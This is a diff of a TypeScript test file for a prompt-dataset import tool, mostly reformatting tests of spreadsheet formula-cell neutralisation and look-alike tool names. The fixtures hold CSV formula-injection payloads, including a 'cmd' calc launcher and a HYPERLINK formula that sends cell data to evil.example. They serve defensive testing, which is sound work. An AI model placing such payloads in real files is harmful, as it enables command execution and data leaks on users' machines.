@@ -25,7 +25,11 @@ const KNOWN = ['DALLE_3', 'Midjourney_6'];
 describe('formula cells in the rejected-rows download', () => {
   it('formula-cells.csv: every formula-like cell gets a leading quote; -1 stays a number', async () => {
     const { summary, sink } = await importFile(bad('formula-cells.csv'));
-    expect(sink.rows.map((r) => [r.prompt, r.score])).toEqual([["+cmd|' /C calc'!A0", 4], ['-1', -1], ['Write a limerick', 5]]);
+    expect(sink.rows.map((r) => [r.prompt, r.score])).toEqual([
+      ["+cmd|' /C calc'!A0", 4],
+      ['-1', -1],
+      ['Write a limerick', 5],
+    ]);
     expect(rejectedRowsCsv(summary.errors)).toBe(
       [
         'prompt,model,score,error',
@@ -38,10 +42,17 @@ describe('formula cells in the rejected-rows download', () => {
 
   it('formula-cells.csv: the download imports again with the original cells (the mark is removed)', async () => {
     const first = await importFile(bad('formula-cells.csv'));
-    const again = await importSource(chunked(rejectedRowsCsv(first.summary.errors)), 'formula-cells-rejected.csv', { mapping: { prompt: 'prompt', tool: 'model', score: 'score' }, preset: 'generic' });
+    const again = await importSource(chunked(rejectedRowsCsv(first.summary.errors)), 'formula-cells-rejected.csv', {
+      mapping: { prompt: 'prompt', tool: 'model', score: 'score' },
+      preset: 'generic',
+    });
     const strip = (raw: Record<string, unknown> | undefined) => ({ prompt: raw?.prompt, model: raw?.model, score: raw?.score });
     expect(again.summary.errors.map((e) => strip(e.raw))).toEqual(first.summary.errors.map((e) => strip(e.raw)));
-    expect(again.summary.errors.map((e) => e.raw?.prompt)).toEqual(['=HYPERLINK("http://evil.example/?leak="&A1,"Click for a prize")', "@SUM(1+1)*cmd|' /C calc'!A0", '  =1+1']);
+    expect(again.summary.errors.map((e) => e.raw?.prompt)).toEqual([
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a prize")',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '  =1+1',
+    ]);
   });
 
   it('formula-keys.jsonl: formula-like JSON keys (the header) and values are neutralised too', async () => {
@@ -83,10 +94,15 @@ describe('services: export and import through the real import service', () => {
     ]);
     const again = await client.call('import', { file: new File([text], 'formulas-export.csv'), datasetName: 'Formulas again' });
     expect(again.summary).toMatchObject({ preset: 'generic', accepted: 5, rejected: 0 });
-    const strip = (rows: typeof before) => rows.map(({ taskId, prompt, toolId, score, feedback }) => ({ taskId, prompt, toolId, score, feedback })).sort((a, b) => a.taskId.localeCompare(b.taskId));
+    const strip = (rows: typeof before) =>
+      rows.map(({ taskId, prompt, toolId, score, feedback }) => ({ taskId, prompt, toolId, score, feedback })).sort((a, b) => a.taskId.localeCompare(b.taskId));
     expect(strip(await repos.experiences.byDataset('formulas-again'))).toEqual(strip(before));
     expect(strip(before).map((r) => [r.prompt, r.feedback])).toEqual([
-      ['=1+1', '+good'], ['=already marked', '-meh'], ['@mention the team', 'tab\tinside'], ['-1', '=SUM(A1:A9)'], ["'plain quote", "'-1"],
+      ['=1+1', '+good'],
+      ['=already marked', '-meh'],
+      ['@mention the team', 'tab\tinside'],
+      ['-1', '=SUM(A1:A9)'],
+      ["'plain quote", "'-1"],
     ]);
   });
 
@@ -104,7 +120,9 @@ describe('services: export and import through the real import service', () => {
     expect((await repos.experiences.get('shapes|DALLE_3|2|default'))?.prompt).toBe('A blue sphere');
     expect((await repos.tools.list()).map((t) => t.id).sort()).toEqual(['DALLE_3', 'Midjourney_6', 'SDXL_Turbo', 'midjourney-6']);
     // Decided names are no longer look-alikes.
-    expect(await client.call('nearMissTools', { ...req, toolChoices: { map: new Map([['dalle', 'DALLE_3']]), newTools: new Set(['midjourney-6']) } })).toEqual([]);
+    expect(await client.call('nearMissTools', { ...req, toolChoices: { map: new Map([['dalle', 'DALLE_3']]), newTools: new Set(['midjourney-6']) } })).toEqual(
+      [],
+    );
   });
 
   it('the import dialog state: the scan after the preview lists the names, the choices reach the import', async () => {
@@ -134,8 +152,17 @@ describe('look-alike tools in the core import', () => {
       [3, 'model', "unknown tool 'dalle': did you mean DALLE_3?"],
       [4, 'model', "unknown tool 'midjourney-6': did you mean Midjourney_6?"],
     ]);
-    expect(summary.nearMissTools).toEqual([{ name: 'dalle', suggestion: 'DALLE_3', rows: 2 }, { name: 'midjourney-6', suggestion: 'Midjourney_6', rows: 1 }]);
-    expect(await findNearMissTools(chunked(readFileSync(bad('near-miss-tools.jsonl'), 'utf8')), { fileName: 'near-miss-tools.jsonl', datasetId: 'test', knownTools: KNOWN })).toEqual(summary.nearMissTools);
+    expect(summary.nearMissTools).toEqual([
+      { name: 'dalle', suggestion: 'DALLE_3', rows: 2 },
+      { name: 'midjourney-6', suggestion: 'Midjourney_6', rows: 1 },
+    ]);
+    expect(
+      await findNearMissTools(chunked(readFileSync(bad('near-miss-tools.jsonl'), 'utf8')), {
+        fileName: 'near-miss-tools.jsonl',
+        datasetId: 'test',
+        knownTools: KNOWN,
+      }),
+    ).toEqual(summary.nearMissTools);
   });
 
   it('near-miss-tools.jsonl with both choices: every row is accepted; mapped rows count under DALLE_3', async () => {
@@ -144,8 +171,18 @@ describe('look-alike tools in the core import', () => {
       toolChoices: { map: new Map([['dalle', 'DALLE_3']]), newTools: new Set(['midjourney-6']) },
     });
     expect(summary).toMatchObject({ accepted: 5, rejected: 0 });
-    expect(Object.entries(summary.tools).map(([t, v]) => [t, v.accepted])).toEqual([['DALLE_3', 3], ['midjourney-6', 1], ['SDXL_Turbo', 1]]);
-    expect(sink.rows.map((r) => r.id)).toEqual(['test|DALLE_3|1|default', 'test|DALLE_3|2|default', 'test|DALLE_3|3|default', 'test|midjourney-6|4|default', 'test|SDXL_Turbo|5|default']);
+    expect(Object.entries(summary.tools).map(([t, v]) => [t, v.accepted])).toEqual([
+      ['DALLE_3', 3],
+      ['midjourney-6', 1],
+      ['SDXL_Turbo', 1],
+    ]);
+    expect(sink.rows.map((r) => r.id)).toEqual([
+      'test|DALLE_3|1|default',
+      'test|DALLE_3|2|default',
+      'test|DALLE_3|3|default',
+      'test|midjourney-6|4|default',
+      'test|SDXL_Turbo|5|default',
+    ]);
   });
 
   it('near-miss-collision.csv: a mapped row that repeats a row of the known tool is a duplicate; as a new tool it is not', async () => {
@@ -161,7 +198,10 @@ describe('toolmem import --known-tools / --tool-map / --new-tool', () => {
   async function cli(args: string[]) {
     let stdout = '';
     let stderr = '';
-    const code = await main(['import', '--data', bad('near-miss-tools.jsonl'), ...args], { out: (t) => void (stdout += `${t}\n`), err: (t) => void (stderr += `${t}\n`) });
+    const code = await main(['import', '--data', bad('near-miss-tools.jsonl'), ...args], {
+      out: (t) => void (stdout += `${t}\n`),
+      err: (t) => void (stderr += `${t}\n`),
+    });
     return { code, stdout, stderr };
   }
 
